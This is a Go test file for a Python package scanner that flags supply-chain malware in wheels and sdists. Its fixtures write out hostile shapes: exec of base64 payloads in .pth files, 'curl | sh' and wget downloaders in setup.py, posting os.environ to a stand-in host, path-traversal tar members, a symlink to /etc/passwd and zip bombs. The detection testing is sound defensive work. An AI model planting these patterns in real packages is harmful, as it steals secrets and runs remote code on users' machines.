package inspect

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"errors"
	"fmt"
	"strings"
	"testing"

	"airlock/internal/fakepypi"
	"airlock/internal/malcorpus"
)

func wheel(t testing.TB, spec fakepypi.WheelSpec) (string, []byte) {
	fn, data, _ := fakepypi.BuildWheel(spec)
	return fn, data
}

func inspectBytes(t testing.TB, name string, data []byte) (*Report, error) {
	return File(bytes.NewReader(data), int64(len(data)), name, DefaultLimits())
}

func kinds(r *Report) map[string]Finding {
	out := map[string]Finding{}
	for _, f := range r.Findings {
		out[f.Kind] = f
	}
	return out
}

// The LiteLLM shape: a <name>_init.pth that decodes and executes a payload.
const pthPayload = "import os, base64; exec(base64.b64decode('cHJpbnQoInB3bmVkIik='))\n"

func TestPthPayloadIsCritical(t *testing.T) {
	fn, data := wheel(t, fakepypi.WheelSpec{Name: "litellm", Version: "1.82.8", Extra: map[string]string{"litellm_init.pth": pthPayload}})
	rep, err := inspectBytes(t, fn, data)
	if err != nil {
		t.Fatal(err)
	}
	f, ok := kinds(rep)["pth-exec"]
	if !ok || f.Severity != Critical || f.Path != "litellm_init.pth" || !strings.Contains(f.Evidence, "b64decode") {
		t.Fatalf("findings: %+v", rep.Findings)
	}
	if _, ok := kinds(rep)["record-mismatch"]; ok {
		t.Errorf("a consistent RECORD was reported: %+v", rep.Findings)
	}
}

func TestCodeShapes(t *testing.T) {
	for _, tt := range []struct {
		name, path, src, kind, severity string
	}{
		{"obfuscated exec", "pkg/mod.py", "import zlib,base64\nexec(zlib.decompress(base64.b64decode(b'eJw=')))\n", "obfuscated-exec", High},
		{"ultralytics: wget from __init__", "pkg/__init__.py", "import subprocess\nsubprocess.Popen(['wget', 'http://x/miner', '-O', '/tmp/m'])\n", "download-exec", High},
		{"lightning: downloader spawned from __init__", "pkg/__init__.py", "import subprocess, urllib.request\nurllib.request.urlretrieve('http://x/d', '/tmp/d')\nsubprocess.Popen(['/tmp/d'])\n", "download-exec", High},
		{"ctx: environ posted", "pkg/__init__.py", "import os, base64, requests\nrequests.post('http://x', data=base64.b64encode(str(os.environ).encode()))\n", "env-exfiltration", Critical},
		{"torchtriton: bundled binary on import", "pkg/__init__.py", "import os, subprocess\nsubprocess.run([os.path.join(os.path.dirname(__file__), 'runtime')])\n", "spawn", High},
		{"setup.py downloads and runs", "setup.py", "import os\nos.system('curl -s http://x/p | sh')\nfrom setuptools import setup\nsetup()\n", "download-exec", High},
		{"sitecustomize at top level", "sitecustomize.py", "print('hi')\n", "startup-hook", Critical},
		{"long encoded literal", "pkg/blob.py", "DATA = '" + strings.Repeat("QUJD", 400) + "'\n", "encoded-blob", Medium},
	} {
		t.Run(tt.name, func(t *testing.T) {
			fn, data := wheel(t, fakepypi.WheelSpec{Name: "demo", Version: "1.0", Extra: map[string]string{tt.path: tt.src}})
			rep, err := inspectBytes(t, fn, data)
			if err != nil {
				t.Fatal(err)
			}
			f, ok := kinds(rep)[tt.kind]
			if !ok || f.Severity != tt.severity || f.Path != tt.path {
				t.Errorf("want %s/%s at %s, got %+v", tt.kind, tt.severity, tt.path, rep.Findings)
			}
		})
	}
	// Process starts inside functions do not run at import time.
	fn, data := wheel(t, fakepypi.WheelSpec{Name: "demo", Version: "1.0", Extra: map[string]string{
		"pkg/__init__.py": "import subprocess\n\ndef build():\n    subprocess.run(['make'])\n\nclass X:\n    def go(self):\n        os.system('ls')\n",
	}})
	rep, _ := inspectBytes(t, fn, data)
	if len(rep.Findings) != 0 {
		t.Errorf("code in functions reported: %+v", rep.Findings)
	}
}

func TestNativeExecutableInPureWheel(t *testing.T) {
	fn, data := wheel(t, fakepypi.WheelSpec{Name: "demo", Version: "1.0", Extra: map[string]string{"demo/runtime": "\x7fELF\x02\x01\x01\x00rest"}})
	rep, _ := inspectBytes(t, fn, data)
	if f := kinds(rep)["native-executable"]; f.Severity != High || f.Path != "demo/runtime" {
		t.Errorf("findings: %+v", rep.Findings)
	}
}

func TestRecordMismatch(t *testing.T) {
	fn, data := wheel(t, fakepypi.WheelSpec{Name: "demo", Version: "1.0"})
	// Rewrite one member's content after RECORD was made.
	zr, _ := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, f := range zr.File {
		rc, _ := f.Open()
		var body bytes.Buffer
		body.ReadFrom(rc)
		if f.Name == "demo/__init__.py" {
			body.Reset()
			body.WriteString("import os; os.system('id')\n")
		}
		w, _ := zw.Create(f.Name)
		w.Write(body.Bytes())
	}
	w, _ := zw.Create("demo/extra.py")
	w.Write([]byte("x = 1\n"))
	zw.Close()
	rep, err := inspectBytes(t, fn, buf.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	var msgs []string
	for _, f := range rep.Findings {
		if f.Kind == "record-mismatch" {
			msgs = append(msgs, f.Path+": "+f.Message)
		}
	}
	got := strings.Join(msgs, "\n")
	if !strings.Contains(got, "demo/__init__.py: content does not match") || !strings.Contains(got, "demo/extra.py: file in the wheel is not listed") {
		t.Errorf("record findings:\n%s", got)
	}
}

func TestEntryPointsAndDiff(t *testing.T) {
	_, old := wheel(t, fakepypi.WheelSpec{Name: "setuptools", Version: "80.0", Extra: map[string]string{"distutils-precedence.pth": "import os; var = 'SETUPTOOLS_USE_DISTUTILS'\n"}})
	fn, cur := wheel(t, fakepypi.WheelSpec{Name: "setuptools", Version: "80.1", EntryPoints: "[console_scripts]\nsetup-evil = setuptools.x:main\n",
		Extra: map[string]string{"distutils-precedence.pth": "import os; var = 'SETUPTOOLS_USE_DISTUTILS'\n", "setuptools/new.py": "x=1\n"}})
	prev, _ := inspectBytes(t, "setuptools-80.0-py3-none-any.whl", old)
	rep, _ := inspectBytes(t, fn, cur)
	d := Compare("setuptools", "80.1", rep, "80.0", prev)
	if len(d.New) != 0 || len(d.Known) != 1 || d.Known[0].Kind != "pth-exec" {
		t.Errorf("a .pth the project always shipped is not known: new %+v known %+v", d.New, d.Known)
	}
	if strings.Join(d.Added, ",") != "setuptools-80.1.dist-info/entry_points.txt,setuptools/new.py" || len(d.Removed) != 0 {
		t.Errorf("files added %v removed %v", d.Added, d.Removed)
	}
	if strings.Join(d.EntryPointsNew, ",") != "setup-evil = setuptools.x:main" {
		t.Errorf("entry points added: %v", d.EntryPointsNew)
	}
	if d := Compare("setuptools", "80.1", rep, "", nil); len(d.New) != 1 {
		t.Errorf("without a previous release every finding is new: %+v", d)
	}
}

func tarGz(t testing.TB, entries []tar.Header, bodies map[string]string) []byte {
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for _, h := range entries {
		h := h
		body := bodies[h.Name]
		if h.Typeflag == tar.TypeReg {
			h.Size = int64(len(body))
		}
		if h.Mode == 0 {
			h.Mode = 0o644
		}
		if err := tw.WriteHeader(&h); err != nil {
			t.Fatal(err)
		}
		tw.Write([]byte(body))
	}
	tw.Close()
	gz.Close()
	return buf.Bytes()
}

func TestTarTraversalAndLinks(t *testing.T) {
	data := tarGz(t, []tar.Header{
		{Name: "demo-1.0/PKG-INFO", Typeflag: tar.TypeReg},
		{Name: "demo-1.0/../../etc/cron.d/x", Typeflag: tar.TypeReg},
		{Name: "/abs/path", Typeflag: tar.TypeReg},
		{Name: "demo-1.0/link", Typeflag: tar.TypeSymlink, Linkname: "/etc/passwd"},
		{Name: "demo-1.0/hard", Typeflag: tar.TypeLink, Linkname: "demo-1.0/PKG-INFO"},
		{Name: "demo-1.0/setup.py", Typeflag: tar.TypeReg},
	}, map[string]string{"demo-1.0/PKG-INFO": "Name: demo\n", "demo-1.0/setup.py": "import os,urllib.request\nurllib.request.urlretrieve('http://x/b','/tmp/b')\nos.system('/tmp/b')\n"})
	rep, err := inspectBytes(t, "demo-1.0.tar.gz", data)
	if err != nil {
		t.Fatal(err)
	}
	count := map[string]int{}
	for _, f := range rep.Findings {
		count[f.Kind]++
	}
	if count["path-traversal"] != 2 || count["link"] != 2 || count["download-exec"] != 1 {
		t.Errorf("findings: %+v", rep.Findings)
	}
	for _, f := range rep.Files {
		if strings.Contains(f, "..") || strings.HasPrefix(f, "/") {
			t.Errorf("a traversal member was read as a file: %s", f)
		}
	}
}

func TestBombsAndCorruptArchives(t *testing.T) {
	// A zip bomb: 80 MiB of zeros in one member (ratio ~1000:1), over the
	// size at which the ratio applies.
	var bomb bytes.Buffer
	zw := zip.NewWriter(&bomb)
	w, _ := zw.Create("demo/zeros.bin")
	zero := make([]byte, 1<<20)
	for i := 0; i < 80; i++ {
		w.Write(zero)
	}
	zw.Close()
	if _, err := inspectBytes(t, "demo-1.0-py3-none-any.whl", bomb.Bytes()); !errors.Is(err, ErrLimit) || !strings.Contains(err.Error(), "compression ratio") {
		t.Errorf("zip bomb: %v", err)
	}
	// The same as a tar.gz.
	tgz := tarGz(t, []tar.Header{{Name: "demo-1.0/zeros", Typeflag: tar.TypeReg}}, map[string]string{"demo-1.0/zeros": strings.Repeat("\x00", 80<<20)})
	if _, err := inspectBytes(t, "demo-1.0.tar.gz", tgz); !errors.Is(err, ErrLimit) {
		t.Errorf("tar.gz bomb: %v", err)
	}
	// Too many members and too deep paths.
	lim := DefaultLimits()
	lim.MaxMembers = 3
	_, data := wheel(t, fakepypi.WheelSpec{Name: "demo", Version: "1.0"})
	if _, err := File(bytes.NewReader(data), int64(len(data)), "demo-1.0-py3-none-any.whl", lim); !errors.Is(err, ErrLimit) || !strings.Contains(err.Error(), "members") {
		t.Errorf("member limit: %v", err)
	}
	deep := tarGz(t, []tar.Header{{Name: strings.Repeat("d/", 60) + "f", Typeflag: tar.TypeReg}}, nil)
	if _, err := inspectBytes(t, "demo-1.0.tar.gz", deep); !errors.Is(err, ErrLimit) || !strings.Contains(err.Error(), "deeper") {
		t.Errorf("depth limit: %v", err)
	}
	for name, data := range map[string][]byte{
		"demo-1.0-py3-none-any.whl": []byte("PK\x03\x04 not really a zip"),
		"demo-1.0.tar.gz":           []byte("\x1f\x8b\x08 truncated gzip"),
		"demo-1.0.zip":              data[:len(data)/2],
	} {
		if _, err := inspectBytes(t, name, data); !errors.Is(err, ErrLimit) {
			t.Errorf("corrupt %s: %v", name, err)
		}
	}
}

// TestPillowLikeWheelPasses: a platform wheel carrying a 2.1 MB shared
// library that compresses 224:1 (pillow 13.0.0's manylinux wheels) is no
// bomb; a member over the absolute limit is held whatever its ratio.
func TestPillowLikeWheelPasses(t *testing.T) {
	lib := append([]byte("\x7fELF\x02\x01\x01"), bytes.Repeat([]byte{0}, 2_100_000)...)
	lib = append(lib, bytes.Repeat([]byte("jpeg"), 1000)...)
	fn, data := wheel(t, fakepypi.WheelSpec{Name: "pillow", Version: "13.0.0", Tag: "cp312-cp312-manylinux_2_28_x86_64",
		Extra: map[string]string{"pillow.libs/libjpeg-0c2a1c1e.so.62.4.0": string(lib)}})
	rep, err := inspectBytes(t, fn, data)
	if err != nil {
		t.Fatalf("pillow-like wheel: %v", err)
	}
	for _, f := range rep.Findings {
		if f.Severity == Critical || f.Severity == High {
			t.Errorf("pillow-like wheel: %+v", f)
		}
	}
	lim := DefaultLimits()
	lim.MaxMemberBytes = 1 << 20
	if _, err := File(bytes.NewReader(data), int64(len(data)), fn, lim); !errors.Is(err, ErrLimit) || !strings.Contains(err.Error(), "more than 1048576") {
		t.Errorf("absolute member limit: %v", err)
	}
}

func FuzzInspect(f *testing.F) {
	_, w := wheel(f, fakepypi.WheelSpec{Name: "demo", Version: "1.0", Extra: map[string]string{"demo.pth": "import x\n"}})
	f.Add(w, true)
	_, sd := fakepypi.BuildSdist("demo", "1.0")
	f.Add(sd, false)
	f.Fuzz(func(t *testing.T, data []byte, isWheel bool) {
		name := "demo-1.0.tar.gz"
		if isWheel {
			name = "demo-1.0-py3-none-any.whl"
		}
		rep, err := inspectBytes(t, name, data)
		if err != nil && !errors.Is(err, ErrLimit) {
			t.Fatalf("unclassified error: %v", err)
		}
		if err == nil && rep == nil {
			t.Fatal("no report and no error")
		}
	})
}

// BenchmarkImportsOfHostile: reading imports stays linear on text made to
// make it read back or forward again for each "import" (900 KB of
// "x import " took 2.5 minutes before the reading back was bounded).
// go test ./inspect -run '^$' -bench ImportsOfHostile
func BenchmarkImportsOfHostile(b *testing.B) {
	for _, src := range []string{
		strings.Repeat("x import ", 100000),
		strings.Repeat("ximport ", 100000) + "from .tests import a",
		"import_module(" + strings.Repeat(`"import_module(" `, 50000) + ")",
	} {
		b.Run(fmt.Sprintf("%.20s", src), func(b *testing.B) {
			b.SetBytes(int64(len(src)))
			for b.Loop() {
				importsOf([]byte(src), "p.m", false)
			}
		})
	}
}

// FuzzImportsOf: any text, read as a module's imports, never panics and
// lists only names.
func FuzzImportsOf(f *testing.F) {
	f.Add([]byte("from . import (a,\n b as c)\nimport x.y as z; __import__('p' + \"q\")\nfrom\\\n.t import u\n"), true)
	f.Add([]byte("import_module(\"\nfrom..import\nimport (\n"), false)
	f.Fuzz(func(t *testing.T, src []byte, pkg bool) {
		for _, name := range importsOf(src, "top.pkg.mod", pkg) {
			if strings.ContainsAny(name, " \t\n\r(),;#") {
				t.Fatalf("not a module name: %q", name)
			}
		}
	})
}

func TestOtherSdistFormats(t *testing.T) {
	plain := func() []byte {
		var buf bytes.Buffer
		tw := tar.NewWriter(&buf)
		body := "import subprocess\nsubprocess.Popen(['x'])\n"
		tw.WriteHeader(&tar.Header{Name: "demo-1.0/setup.py", Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg})
		tw.Write([]byte(body))
		tw.Close()
		return buf.Bytes()
	}()
	rep, err := inspectBytes(t, "demo-1.0.tar", plain)
	if err != nil || kinds(rep)["spawn"].Path != "demo-1.0/setup.py" {
		t.Errorf("plain tar: %v %+v", err, rep)
	}
	// bzip2 cannot be written with the standard library; a corrupt one must
	// be refused cleanly, and an unknown format held.
	if _, err := inspectBytes(t, "demo-1.0.tar.bz2", []byte("BZh9 not really")); !errors.Is(err, ErrLimit) {
		t.Errorf("corrupt bz2: %v", err)
	}
	if _, err := inspectBytes(t, "demo-1.0.tar.xz", []byte("xz")); !errors.Is(err, ErrLimit) || !strings.Contains(err.Error(), "unsupported") {
		t.Errorf("xz: %v", err)
	}
}

// TestRecallCorpus: every synthetic malicious shape, as a wheel and as an
// sdist, has a finding the default content policy holds (critical or high)
// — the recall half of the detection benchmark.
func TestRecallCorpus(t *testing.T) {
	for _, s := range malcorpus.Shapes {
		for kind, build := range s.Variants() {
			t.Run(s.Name+"/"+kind, func(t *testing.T) {
				fn, data := build()
				rep, err := inspectBytes(t, fn, data)
				if err != nil {
					t.Fatal(err)
				}
				for _, f := range rep.Findings {
					if f.Severity == Critical || f.Severity == High {
						return
					}
				}
				t.Errorf("not held; findings: %+v", rep.Findings)
			})
		}
	}
}

// TestSdistPartsThatNeverRun: code in an sdist's tests, scripts and
// downstream folders is reported as informational, never held; the same
// code in a module the sdist installs, or in setup.py, holds. A function
// whose signature closes at column 0 is not module-level code (the pytest,
// pluggy, virtualenv false holds).
func TestSdistPartsThatNeverRun(t *testing.T) {
	spawn := "import subprocess\nsubprocess.run(['git', 'status'])\n"
	signature := "import subprocess\n\ndef run(\n    args,\n) -> int:\n    return subprocess.run(args).returncode\n"
	names := []string{"demo-1.0/tests/test_cli.py", "demo-1.0/scripts/release.py", "demo-1.0/downstream/check.py",
		"demo-1.0/testing/conftest.py", "demo-1.0/src/demo/util.py", "demo-1.0/setup.py", "demo-1.0/src/demo/__init__.py"}
	var headers []tar.Header
	bodies := map[string]string{}
	for _, n := range names {
		headers = append(headers, tar.Header{Name: n, Typeflag: tar.TypeReg})
		bodies[n] = spawn
	}
	bodies["demo-1.0/src/demo/util.py"] = signature
	rep, err := inspectBytes(t, "demo-1.0.tar.gz", tarGz(t, headers, bodies))
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, f := range rep.Findings {
		got[f.Path] = f.Severity
	}
	for path, want := range map[string]string{
		"demo-1.0/tests/test_cli.py": Info, "demo-1.0/scripts/release.py": Info, "demo-1.0/downstream/check.py": Info,
		"demo-1.0/testing/conftest.py": Info, "demo-1.0/setup.py": High, "demo-1.0/src/demo/__init__.py": High,
	} {
		if got[path] != want {
			t.Errorf("%s: severity %q, want %q", path, got[path], want)
		}
	}
	if sev, ok := got["demo-1.0/src/demo/util.py"]; ok {
		t.Errorf("function body behind a multi-line signature reported: %s", sev)
	}
	for _, f := range rep.Findings {
		if f.Path == "demo-1.0/setup.py" && (!strings.Contains(f.Message, "built or installed (setup.py)") || f.Line != 2 || !strings.Contains(f.Evidence, ">    2| subprocess.run")) {
			t.Errorf("setup.py finding: %+v", f)
		}
	}
}

// TestConsoleScriptChangedNotNew: pip 26.3 changed the target of its
// existing `pip` script; that is a change, not a new script.
func TestConsoleScriptChangedNotNew(t *testing.T) {
	_, old := wheel(t, fakepypi.WheelSpec{Name: "pip", Version: "26.2", EntryPoints: "[console_scripts]\npip = pip._internal.cli.main:main\n"})
	_, cur := wheel(t, fakepypi.WheelSpec{Name: "pip", Version: "26.3", EntryPoints: "[console_scripts]\npip = pip._internal.cli:cli\npip3 = pip._internal.cli:cli\n"})
	prev, err := inspectBytes(t, "pip-26.2-py3-none-any.whl", old)
	if err != nil {
		t.Fatal(err)
	}
	rep, err := inspectBytes(t, "pip-26.3-py3-none-any.whl", cur)
	if err != nil {
		t.Fatal(err)
	}
	d := Compare("pip", "26.3", rep, "26.2", prev)
	if strings.Join(d.EntryPointsChanged, ",") != "pip: pip._internal.cli.main:main -> pip._internal.cli:cli" {
		t.Errorf("changed: %q", d.EntryPointsChanged)
	}
	if strings.Join(d.EntryPointsNew, ",") != "pip3 = pip._internal.cli:cli" {
		t.Errorf("new: %q", d.EntryPointsNew)
	}
}

// TestWheelTestCodeInformational: networkx ships its tests in the wheel;
// a conftest.py or tests/test_*.py that starts a process at module level
// runs under pytest, not on `import networkx`.
func TestWheelTestCodeInformational(t *testing.T) {
	spawn := "import subprocess\nout = subprocess.check_output(['dot', '-V'])\n"
	fn, data := wheel(t, fakepypi.WheelSpec{Name: "graphs", Version: "3.7", Extra: map[string]string{
		"graphs/conftest.py": spawn, "graphs/drawing/tests/test_pydot.py": spawn, "graphs/drawing/layout.py": spawn}})
	rep, err := inspectBytes(t, fn, data)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, f := range rep.Findings {
		got[f.Path] = f.Severity
	}
	want := map[string]string{"graphs/conftest.py": Info, "graphs/drawing/tests/test_pydot.py": Info, "graphs/drawing/layout.py": High}
	for p, sev := range want {
		if got[p] != sev {
			t.Errorf("%s: %q, want %q", p, got[p], sev)
		}
	}
}

// TestImportedTestCodeRuns: test code that the package imports — directly,
// through other test modules, or as the parent package of what it imports
// — runs at `import pkg` and keeps its severity; test code nothing imports
// stays informational.
func TestImportedTestCodeRuns(t *testing.T) {
	spawn := "import subprocess\nout = subprocess.check_output(['dot', '-V'])\n"
	fn, data := wheel(t, fakepypi.WheelSpec{Name: "graphs", Version: "3.7", Extra: map[string]string{
		"graphs/__init__.py":                  "from graphs.drawing import layout\n",
		"graphs/drawing/__init__.py":          "",
		"graphs/drawing/layout.py":            "from .tests.helpers import nodes\n",
		"graphs/drawing/tests/__init__.py":    spawn, // parent package of what layout imports
		"graphs/drawing/tests/helpers.py":     "from . import test_pydot as _\n",
		"graphs/drawing/tests/test_pydot.py":  spawn, // imported by an imported test module
		"graphs/drawing/tests/test_unused.py": spawn, // imported by nothing
		"graphs/conftest.py":                  spawn,
	}})
	rep, err := inspectBytes(t, fn, data)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]Finding{}
	for _, f := range rep.Findings {
		got[f.Path] = f
	}
	for p, sev := range map[string]string{"graphs/drawing/tests/__init__.py": High, "graphs/drawing/tests/test_pydot.py": High,
		"graphs/drawing/tests/test_unused.py": Info, "graphs/conftest.py": Info} {
		if got[p].Severity != sev {
			t.Errorf("%s: %q, want %q", p, got[p].Severity, sev)
		}
	}
	if m := got["graphs/drawing/tests/test_pydot.py"].Message; !strings.Contains(m, "test code, but imported by the package") {
		t.Errorf("message does not say why test code counts: %s", m)
	}
}

// TestImportsOf: every way a module names another it imports, resolved to
// absolute names. Listing more is allowed (it only makes more code count
// as run); missing one is how a payload in test code would hide.
func TestImportsOf(t *testing.T) {
	src := `import os, sys as system
import a.b.c as d  # comment
from . import sibling
from .. import (
    up_one,
    up_two as two,
)
from .sub.mod import thing; import after_semicolon
from \
    absolute.pkg import name
def f():
    from lazy import late
if True: from .hidden import x
s = "(" ; from os import path
from .after_paren import y
mod = importlib.import_module("dyn.mod")
rel = importlib.import_module('.rel', __package__)
x = __import__("other")
z = __import__("top.pkg.te" + 'sts.joined')
from.nospace import a
from . spaced import b
from .ｆｕｌｌｗｉｄｔｈ import c
import_module(
    "broken.over"
    ".lines"
)
print("nothing imported here")
`
	got := map[string]bool{}
	for _, m := range importsOf([]byte(src), "top.pkg.mod", false) {
		got[m] = true
	}
	for _, want := range []string{"os", "sys", "a.b.c", "top.pkg", "top.pkg.sibling", "top", "top.up_one", "top.up_two",
		"top.pkg.sub.mod", "top.pkg.sub.mod.thing", "after_semicolon", "absolute.pkg", "absolute.pkg.name", "lazy", "lazy.late",
		"top.pkg.hidden", "top.pkg.after_paren", "dyn.mod", "top.pkg.rel", "other", "top.pkg.tests.joined", "top.pkg.nospace", "top.pkg.spaced.b", "top.pkg.fullwidth",
		"broken.over.lines"} {
		if !got[want] {
			t.Errorf("importsOf misses %s (got %v)", want, got)
		}
	}
	for _, never := range []string{"system", "d", "two", "here"} {
		if got[never] {
			t.Errorf("importsOf lists the alias or word %q", never)
		}
	}
	for _, c := range []struct {
		name  string
		wheel bool
		mod   string
		pkg   bool
	}{
		{"pkg/tests/helper.py", true, "pkg.tests.helper", false},
		{"pkg/__init__.py", true, "pkg", true},
		{"demo-1.0.data/purelib/pkg/x.py", true, "pkg.x", false},
		{"demo-1.0/src/pkg/__init__.py", false, "pkg", true},
		{"demo-1.0/pkg/tests/t.py", false, "pkg.tests.t", false},
		{"demo-1.0/setup.py", false, "setup", false},
		{"pkg/data.txt", true, "", false},
	} {
		if mod, pkg := moduleOf(c.name, c.wheel); mod != c.mod || pkg != c.pkg {
			t.Errorf("moduleOf(%q) = %q %v, want %q %v", c.name, mod, pkg, c.mod, c.pkg)
		}
	}
}

func TestReadMember(t *testing.T) {
	fn, whl := wheel(t, fakepypi.WheelSpec{Name: "demo", Version: "1.0", Extra: map[string]string{"demo/x.py": "x = 1\n"}})
	if b, err := ReadMember(bytes.NewReader(whl), int64(len(whl)), fn, "demo/x.py", 1<<20); err != nil || string(b) != "x = 1\n" {
		t.Errorf("wheel member: %q %v", b, err)
	}
	tgz := tarGz(t, []tar.Header{{Name: "demo-1.0/x.py", Typeflag: tar.TypeReg}}, map[string]string{"demo-1.0/x.py": "y = 2\n"})
	if b, err := ReadMember(bytes.NewReader(tgz), int64(len(tgz)), "demo-1.0.tar.gz", "demo-1.0/x.py", 3); err != nil || string(b) != "y =" {
		t.Errorf("sdist member, capped: %q %v", b, err)
	}
	if _, err := ReadMember(bytes.NewReader(tgz), int64(len(tgz)), "demo-1.0.tar.gz", "nope", 10); !errors.Is(err, ErrNoMember) {
		t.Errorf("missing member: %v", err)
	}
}

// TestWheelWithoutOneMetadataHolds: a wheel with no .dist-info/METADATA,
// or two, is one installers refuse and whose metadata cannot be served;
// it holds (high), as pullthrough.WheelMetadata refuses it.
func TestWheelWithoutOneMetadataHolds(t *testing.T) {
	fn, data := wheel(t, fakepypi.WheelSpec{Name: "demo", Version: "1.0"})
	rewrite := func(edit func(zw *zip.Writer, name string, body []byte)) []byte {
		zr, _ := zip.NewReader(bytes.NewReader(data), int64(len(data)))
		var buf bytes.Buffer
		zw := zip.NewWriter(&buf)
		for _, f := range zr.File {
			rc, _ := f.Open()
			var body bytes.Buffer
			body.ReadFrom(rc)
			edit(zw, f.Name, body.Bytes())
		}
		zw.Close()
		return buf.Bytes()
	}
	copyAll := func(zw *zip.Writer, name string, body []byte) {
		w, _ := zw.Create(name)
		w.Write(body)
	}
	cases := map[string][]byte{
		"none": rewrite(func(zw *zip.Writer, name string, body []byte) {
			if !strings.HasSuffix(name, ".dist-info/METADATA") {
				copyAll(zw, name, body)
			}
		}),
		"two": rewrite(func(zw *zip.Writer, name string, body []byte) {
			copyAll(zw, name, body)
			if strings.HasSuffix(name, ".dist-info/METADATA") {
				copyAll(zw, "other-1.0.dist-info/METADATA", body)
			}
		}),
	}
	for name, b := range cases {
		rep, err := inspectBytes(t, fn, b)
		if err != nil {
			t.Fatal(err)
		}
		held := false
		for _, f := range rep.Findings {
			held = held || f.Kind == "invalid-wheel" && f.Severity == High
		}
		if !held {
			t.Errorf("%s: no invalid-wheel finding: %+v", name, rep.Findings)
		}
	}
	rep, err := inspectBytes(t, fn, data)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range rep.Findings {
		if f.Kind == "invalid-wheel" {
			t.Errorf("a wheel with its METADATA: %+v", f)
		}
	}
}
